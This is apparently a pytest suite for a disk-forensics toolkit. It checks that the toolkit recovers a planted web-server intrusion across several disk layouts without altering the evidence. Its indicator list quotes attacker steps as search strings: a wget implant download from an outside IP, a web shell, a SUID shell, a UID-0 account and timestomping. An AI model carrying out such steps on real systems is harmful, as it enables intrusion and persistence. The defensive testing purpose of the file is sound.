"""One intrusion on every layout of a disk: the same answers, the evidence untouched."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from lab.tools.disks import build as lab_disk
from lab.tools.disks.build import WEB_SERVER, Layout
from lab.tools.disks.population import populate
from lab.tools.disks.scenario import load
from tests.toolkit import dirty_twins
from tests.toolkit.examined import NO_TOOLS, PLASO, TOOLS, answered, examine, moment, run

pytestmark = pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
QUICK = (Layout.LVM_EXT4, Layout.GPT_XFS)
ISSUE = (Layout.GPT_EXT4, Layout.PLAIN_EXT4, Layout.LVM_EXT4, Layout.GPT_XFS, Layout.PLAIN_XFS, Layout.LVM_XFS)
SECONDS = 120


def build(folder: Path, layout: Layout) -> tuple[Path, list[dict[str, Any]]]:
    """The image and its planted facts."""
    manifest = lab_disk.build(WEB_SERVER, folder / f"{layout}.raw", facts=folder / "facts.json", layout=layout)
    facts: list[dict[str, Any]] = json.loads(manifest.facts_file.read_text("utf-8"))["facts"]
    return manifest.image, facts


def digest(path: Path) -> str:
    """SHA-256 of a file."""
    with path.open("rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


@pytest.mark.parametrize("layout", QUICK)
def test_a_logical_volume_and_xfs_are_read(layout: Layout, tmp_path: Path) -> None:
    image, facts = build(tmp_path, layout)
    before = digest(image)
    results = examine(image)
    assert results["gaps"] == []
    found = [fact["id"] for fact in facts if answered(fact, results)]
    assert len(facts) == 20
    assert len(found) >= 12, sorted({fact["id"] for fact in facts} - set(found))
    assert digest(image) == before


@pytest.mark.investigate
@pytest.mark.parametrize("layout", ISSUE)
def test_the_quick_profile_answers_in_time_on_every_layout(layout: Layout, tmp_path: Path) -> None:
    image, facts = build(tmp_path, layout)
    before = digest(image)
    results = examine(image, whole=True)
    started, ended = moment(results["started"]), moment(results["ended"])
    found = [fact["id"] for fact in facts if answered(fact, results)]
    seconds = (ended - started).total_seconds()
    print(f"\n[investigate] quick profile {layout}: {len(found)} of {len(facts)} in {seconds:.1f} s")
    assert results["gaps"] == []
    assert len(found) >= 12, sorted({fact["id"] for fact in facts} - set(found))
    assert seconds <= SECONDS
    assert results["input"]["sha256"] == before == digest(image)


@pytest.mark.investigate
@pytest.mark.parametrize(("tool", "layout"), [("xfs_repair", Layout.PLAIN_XFS), ("pvck", Layout.LVM_EXT4)])
def test_standard_tools_accept_the_images(tool: str, layout: Layout, tmp_path: Path) -> None:
    program = shutil.which(tool)
    if program is None:
        pytest.skip(
            f"{tool} is not on this machine (Debian: xfsprogs, lvm2); the toolkit's own readers are tested anyway"
        )
    image, _facts = build(tmp_path, layout)
    part = tmp_path / "part"
    # The file system of the XFS image is smaller than its disk; LVM's lies behind the first MiB.
    start, size = (0, 64 << 20) if tool == "xfs_repair" else (1 << 20, None)
    part.write_bytes(image.read_bytes()[start : start + size if size else None])
    argv = [program, "-n", str(part)] if tool == "xfs_repair" else [program, "--dump", "metadata", str(part)]
    done = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr
    if tool == "pvck":
        assert "logical_volumes" in done.stdout and "CHECK" not in done.stdout


_WORDS = {
    "disk-web-reconnaissance": ("/wp-login.php", "/uploads/", "/ "),
    "disk-brute-force": ("Failed password",),
    "disk-first-login": ("Accepted password for admin", "Successful login of user: admin"),
    "disk-admin-history": ("Command executed: id",),
    "disk-sudo-root": ("session opened for user root", "COMMAND=/bin/bash"),
    "disk-root-history": ("Command executed: whoami",),
    "disk-implant-download": ("wget -q http://203.0.113.66/.font-unix-cache",),
    "disk-implant": ("/usr/local/lib/.sysd/sysd",),
    "disk-cron": ("/etc/cron.d/sysstat-collect",),
    "disk-systemd-unit": ("/etc/systemd/system/dbus-helper.service",),
    "disk-suid-shell": ("/usr/local/bin/.netstat",),
    "disk-uid-0-user": ("name=svc-backup",),
    "disk-ssh-key": ("authorized_keys",),
    "disk-web-shell": ("img_0231.php",),
    "disk-timestomp": ("touch -d '2025-11-02 09:14:00'",),
    "disk-archive": ("tar czf /tmp/stage.tar.gz",),
    "disk-file-deletion": ("rm -f /tmp/stage.tar.gz",),
    "disk-web-shell-use": ("POST /uploads/img_0231.php",),
    "disk-reboot": ("System is rebooting",),
    "disk-second-login": ("Accepted publickey for root",),
}


@pytest.mark.investigate
@pytest.mark.skipif(not PLASO.exists(), reason="plaso's environment is not there: run `make setup-plaso`")
@pytest.mark.parametrize("layout", [Layout.GPT_EXT4, Layout.PLAIN_EXT4, Layout.LVM_EXT4, Layout.GPT_XFS])
def test_the_full_profile_has_all_steps_in_order(layout: Layout, tmp_path: Path) -> None:
    image, facts = build(tmp_path, layout)
    before = digest(image)
    results = examine(image, whole=True, seconds=900, profile="full")
    events = results["events"]
    when = [event["datetime"] for event in events]
    assert when == sorted(when)
    places = [(_place(fact, events), fact["id"]) for fact in facts]
    missing = [name for place, name in places if place is None]
    seconds = (moment(results["ended"]) - moment(results["started"])).total_seconds()
    print(
        f"\n[investigate] full profile {layout}: {len(facts) - len(missing)} of {len(facts)} among {len(events)} "
        f"entries in {seconds:.0f} s"
    )
    assert missing == []
    # The timeline has the facts in the order in which the intruder acted.
    found = [place for place, _name in places if place is not None]
    begun = [_acted(fact) for fact in facts]
    assert [place for _, place in sorted(zip(begun, found, strict=True))] == sorted(found)
    assert results["gaps"] == []
    assert all(event["message"] and event["timestamp_desc"] for event in events)
    assert any(event.get("sha256_hash") for event in events)
    assert digest(image) == before == results["input"]["sha256"]


def _acted(fact: dict[str, Any]) -> datetime:
    """When the intruder acted; a forged time does not count."""
    return min(moment(text) for name, text in fact["times"].items() if name != "shown")


def _place(fact: dict[str, Any], events: list[dict[str, Any]]) -> int | None:
    """The index of a fact in the timeline, within a second of its time."""
    acted = _acted(fact)
    for number, event in enumerate(events):
        near = abs((moment(event["datetime"]) - acted).total_seconds()) <= 1
        if near and any(word in event["message"] for word in _WORDS[fact["id"]]):
            return number
    return None


@pytest.mark.investigate
def test_journalctl_accepts_the_journal_and_reads_what_the_toolkit_reads(tmp_path: Path) -> None:
    program = shutil.which("journalctl")
    if program is None:
        pytest.skip("journalctl is not on this machine (Debian: systemd); the toolkit's own reader is tested anyway")
    image, _facts = build(tmp_path, Layout.GPT_EXT4)
    path = "/var/log/journal/5f1d0c9be0a24c5e9d1f6a7b8c9d0e1f/system.journal"
    file = tmp_path / "system.journal"
    file.write_bytes(populate(load(WEB_SERVER)).node(path).data)
    subprocess.run([program, "--verify", "--file", str(file)], check=True, capture_output=True, timeout=60)
    argv = [program, "--file", str(file), "-o", "cat", "--no-pager", "--quiet"]
    lines = subprocess.run(argv, check=True, capture_output=True, text=True, timeout=60).stdout.splitlines()
    account = next(item for item in examine(image)["coverage"] if item["path"] == path)
    assert account["parsed"] == account["lines"] == len(lines) > 40


def _dirty(image: Path, facts: list[dict[str, Any]], layout: Layout, folder: Path) -> None:
    """Turn the image into its dirty twin: the inodes of the planted files are in the journal alone."""
    pieces = _pieces(image, layout)
    part = folder / "part"
    content = image.read_bytes()
    part.write_bytes(b"".join(content[start : start + size] for start, size in pieces))
    planted = {fact["path"]: fact["inode"] for fact in facts if fact["path"] and not fact.get("deleted")}
    if layout.filesystem == "xfs":
        found = json.loads(run(_INODES, str(image), *planted))
        dirty_twins.xfs(part, [number for number in found.values() if number])
    else:
        dirty_twins.ext4(part, list(planted))
    changed, at = part.read_bytes(), 0
    with image.open("r+b") as file:
        for start, size in pieces:
            file.seek(start)
            file.write(changed[at : at + size])
            at += size


_INODES = """
import json, sys
from pathlib import Path
from forensic_toolkit.filesystems.volumes import Disk
from forensic_toolkit.results import Results
from forensic_toolkit.times import now

found = {}
for opened, _ in Disk(Path(sys.argv[1])).file_systems(Results("fc-20260101-0123456789", "d", "disk", started=now())):
    found |= {entry.path: entry.inode for entry in opened.walk() if not entry.deleted and entry.path in sys.argv[2:]}
print(json.dumps(found))
"""
_PIECES = """
import json, sys
from pathlib import Path
from forensic_toolkit.filesystems.storage import Joined, Stored
from forensic_toolkit.filesystems.volumes import Disk
from forensic_toolkit.results import Results
from forensic_toolkit.times import now


def pieces(storage, offset, length):
    if isinstance(storage, Stored):
        return [[offset, min(length, storage.size - offset)]]
    found, at = [], 0
    for part, start, size in storage.pieces:
        first, last = max(offset, at), min(offset + length, at + size)
        if first < last:
            found += pieces(storage.parts[part], start + first - at, last - first)
        at += size
    return found


disk = Disk(Path(sys.argv[1]))
opened = [one for one, _ in disk.file_systems(Results("fc-20260101-0123456789", "d", "disk", started=now()))]
contents = opened[0].partition.contents()
print(json.dumps(pieces(contents, 0, contents.size)))
"""


def _pieces(image: Path, layout: Layout) -> list[list[int]]:
    """Where the file system lies on the disk, as (offset, length) in bytes."""
    found: list[list[int]] = json.loads(run(_PIECES, str(image)))
    return found


@pytest.mark.investigate
@pytest.mark.parametrize("layout", ISSUE)
def test_the_dirty_twin_of_every_layout_gives_the_same_answers(layout: Layout, tmp_path: Path) -> None:
    if layout.filesystem == "ext4" and (why := dirty_twins.tools()):
        pytest.skip(why)
    image, facts = build(tmp_path, layout)
    clean = {fact["id"] for fact in facts if answered(fact, examine(image))}
    _dirty(image, facts, layout, tmp_path)
    before = digest(image)
    results = examine(image)
    found = {fact["id"] for fact in facts if answered(fact, results)}
    print(f"\n[investigate] dirty twin of {layout}: {len(found)} of {len(facts)}")
    assert any("was replayed on an overlay" in note["why"] for note in results["notes"])
    assert results["gaps"] == []
    assert found == clean
    assert digest(image) == before
    blind = examine(image, before=_NO_REPLAY)
    assert len({fact["id"] for fact in facts if answered(fact, blind)}) < len(found)


_NO_REPLAY = """
from forensic_toolkit.filesystems import prepared
from forensic_toolkit.filesystems.ext4_journal import Replay
from forensic_toolkit.filesystems.overlay import Overlay
prepared.ext4_journal.replay = prepared.xfs_replay.replay = lambda volume, head: (Overlay(volume, block=4096), Replay())
"""
